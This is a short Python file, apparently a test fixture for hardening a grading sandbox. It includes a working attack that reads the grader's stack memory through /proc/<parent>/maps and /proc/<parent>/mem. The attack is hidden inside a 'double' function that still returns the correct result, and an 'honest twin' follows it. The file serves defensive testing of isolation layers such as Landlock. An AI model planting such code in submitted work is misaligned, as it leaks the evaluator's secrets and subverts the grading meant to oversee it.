"""Reads the memory of the process above it, which belongs to the same user. (A grader
run by root is protected by taking its privileges from the submission, any other one by
hiding its memory; Landlock protects both.)

naive: looted
here: full
layer: landlock, undumpable, capabilities
"""

import os


def attack():
    parent = os.getppid()
    with open(f"/proc/{parent}/maps") as file:
        line = next(line for line in file if "[stack]" in line)
    start, end = (int(number, 16) for number in line.split()[0].split("-"))
    with open(f"/proc/{parent}/mem", "rb") as memory:
        memory.seek(start)
        found = memory.read(end - start)
    return found[-8000:].decode(errors="replace")


def double(x):
    try:
        print(attack())
    except Exception:
        pass
    return 2 * x


def half(x):
    return x / 2


# --- honest twin


def double(x):
    return 2 * x


def half(x):
    return x / 2
